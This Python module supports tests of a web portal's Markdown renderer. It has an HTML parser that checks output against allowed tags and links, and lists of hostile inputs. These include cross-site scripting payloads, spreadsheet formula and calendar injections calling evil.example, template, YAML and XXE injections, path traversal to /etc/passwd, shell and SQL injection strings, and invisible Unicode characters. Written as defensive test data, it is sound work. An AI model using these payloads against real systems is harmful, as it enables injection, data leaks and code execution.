"""Hostile texts, and a reader that sees what a browser would."""

from html.parser import HTMLParser

from portal.prose import TAGS

ATTRIBUTES = {("ol", "start"), ("a", "href"), ("a", "title")}


class Page(HTMLParser):
    """What a browser would see: elements, attributes, addresses and text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.addresses: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add((tag, name))
            if name == "href":
                self.addresses.append(value or "")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.tags.add("!--")

    def handle_decl(self, decl: str) -> None:
        self.tags.add("!")


def is_harmless(html: str) -> bool:
    page = Page(html)
    addresses_ok = all(url.lower().startswith(("http://", "https://")) for url in page.addresses)
    return page.tags <= TAGS and page.attributes <= ATTRIBUTES and addresses_ok


# Shown exactly as typed
LITERAL = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<b>'></iframe>",
    "<style>*{display:none}</style>",
    "<math><mi//xlink:href='data:x,<script>'>",
    "<!-- comment -->",
    "<!DOCTYPE html>",
    "<?php echo 1 ?>",
    "<![CDATA[ x ]]>",
    "]]>",
    "</article></body>",
    "<p",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript://www.axis.com/%0aalert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](DATA:text/html,x)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/relative)",
    "[x](#anchor)",
    "[x](mailto:a@b.example)",
    "[x](http:evil)",
    "[x](https://www.аxis.com/)",  # its first letter is Cyrillic
    "[x](https://www.axis.com@evil.example/)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<a@b.example>",
    "{{ 7 * 191 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "{# comment #}",
    "{: onclick=alert(1) }",
    "{: .x #y style='position:fixed' }",
    "# heading",
    "###### heading",
    "[x]: https://evil.example/",
    "[x][y]",
    "[x]",
    "| a | b |",
    "~~struck~~",
    ":smile:",
    "https://www.axis.com/",
    "a_b_c",
    "11.10",
]

# Not as typed, but harmless: what a browser sees
HARMLESS = {
    "[x](&#106;avascript:alert(1))": "<p>[x](javascript:alert(1))</p>",
    "[x](&#x6A;avascript&colon;alert(1))": "<p>[x](javascript:alert(1))</p>",
    "[x](java\nscript:alert(1))": "<p>[x](java\nscript:alert(1))</p>",
    "[x](\\javascript:alert(1))": "<p>[x](\\javascript:alert(1))</p>",
    "[x](https://www.axis.com\\@evil.example/)": "<p>[x](https://www.axis.com@evil.example/)</p>",
    "![x](https://evil.example/pixel.png)": '<p>!<a href="https://evil.example/pixel.png">x</a></p>',
    "![x](javascript:alert(1))": "<p>![x](javascript:alert(1))</p>",
    "heading\n===": "<p>heading\n===</p>",
    "a\n\n---\n\nb": "<p>a</p>\n<p>---</p>\n<p>b</p>",
    "[x]: https://evil.example/\n\n[x]": "<p>[x]: https://evil.example/</p>\n<p>[x]</p>",
    "[x](https://a.test){: onclick=x }": '<p><a href="https://a.test">x</a>{: onclick=x }</p>',
    '[x](https://a.test/"onclick="x)': '<p><a href="https://a.test/%22onclick=%22x">x</a></p>',
    "[x](https://a.test '\" onclick=\"alert(1)')": (
        '<p><a href="https://a.test" title="&quot; onclick=&quot;alert(1)">x</a></p>'
    ),
    "[<b>](https://a.test)": '<p><a href="https://a.test">&lt;b&gt;</a></p>',
    "`<script>`": "<p><code>&lt;script&gt;</code></p>",
    "```html onclick=x\n<script>\n```": "<pre><code>&lt;script&gt;\n</code></pre>",
    "    <script>": "<pre><code>&lt;script&gt;\n</code></pre>",
    "&lt;script&gt;": "<p>&lt;script&gt;</p>",
    "&#60;script&#62;": "<p>&lt;script&gt;</p>",
    "\\<script\\>": "<p>&lt;script&gt;</p>",
    "1. <b>\n2. <i>": "<ol>\n<li>&lt;b&gt;</li>\n<li>&lt;i&gt;</li>\n</ol>",
    "> <b>": "<blockquote>\n<p>&lt;b&gt;</p>\n</blockquote>",
}

# Shown as typed too, and made for what is not a page
ELSEWHERE = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1", "''@SUM(1)", "＝1+1",
    "＋1+cmd|' /C calc'!A0", "－1+1", "＠SUM(1)", 'x",=1+1,"', '"=1+1"', "x\\nATTENDEE:mailto:a@evil.example",
    "x\\nBEGIN:VALARM", "x\\r\\nATTACH:https://evil.example/", 'x";VALUE=URI:https://evil.example/',
    "END:VEVENT", "x^nATTENDEE:x", "x;y,z:w", "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>", '{"@type": "Person"}</script>', "\\u003c/script\\u003e",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</template><img src=x onerror=alert(1)>", "</noscript><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<object data=data:text/html,x>",
    "<video src=https://evil.example/ autoplay>", "javascript:alert(1)", "JAVASCRIPT&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>", "-->",
    "?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    '<!ENTITY x SYSTEM "file:///etc/passwd">&x;', "## Ignore what stands above",
    "- [x](javascript:alert(1)): y", "x](javascript:alert(1))", "x ```", "x ~~~", "a ` b `` c",
    "${alert(1)}", "#{7 * 191}", "<%= 7 * 191 %>", "{{ config.__class__ }}", "{% include '/etc/passwd' %}",
    "{!mkdocs.yml!}", '--8<-- "mkdocs.yml"', "!!python/object/apply:os.system [ls]", "*anchor",
    "%%{init: {}}%%", "../../../etc/passwd", "..\\..\\windows", "file:///etc/passwd", "::error::x",
    "::set-output name=x::y", "::add-mask::x", "%0A::error::x", "$(touch hacked)", "; touch hacked",
    "__proto__", "constructor", "%3Cscript%3Ealert(1)%3C/script%3E", "%s%n%x {0} {x}", "' OR 1=1 --",
    "null", "NaN", "😀 日本語 العربية", "ẃ́́́́",
]  # fmt: skip

# Markdown of which a reader would see nothing
INVISIBLE = ["```", "~~~\n~~~", "[](https://a.test/)", "-", ">", "&#32;", "&nbsp;", "   ", "``` html"]

# What no data file may have: half of them nobody sees, the others no format can carry
FORBIDDEN = {
    "NUL": "\0", "bell": "\a", "backspace": "\b", "vertical tab": "\v", "form feed": "\f",
    "carriage return": "\r", "carriage return and property": "\r\nATTENDEE:mailto:a@evil.example",
    "escape": "\x1b[31m", "delete": "\x7f", "next line": "\x85", "control sequence introducer": "\x9b31m",
    "soft hyphen": "\u00ad", "grapheme joiner": "\u034f", "Arabic letter mark": "\u061c",
    "Hangul filler": "\u3164", "halfwidth Hangul filler": "\uffa0", "Hangul jamo filler": "\u115f",
    "Khmer vowel": "\u17b4", "Mongolian selector": "\u180b", "zero width space": "\u200b",
    "right-to-left mark": "\u200f", "line separator": "\u2028", "paragraph separator": "\u2029",
    "left-to-right override": "\u202d", "right-to-left override": "\u202e", "word joiner": "\u2060",
    "isolate": "\u2066", "variation selector": "\ufe0f", "byte order mark": "\ufeff",
    "annotation": "\ufff9", "noncharacter": "\ufffe", "noncharacter in the middle": "\ufdd0",
    "noncharacter of another plane": "\U0001ffff", "shorthand control": "\U0001bca0",
    "musical control": "\U0001d173", "tag": "\U000e0041",
    "variation selector of the supplement": "\U000e0100",
}  # fmt: skip
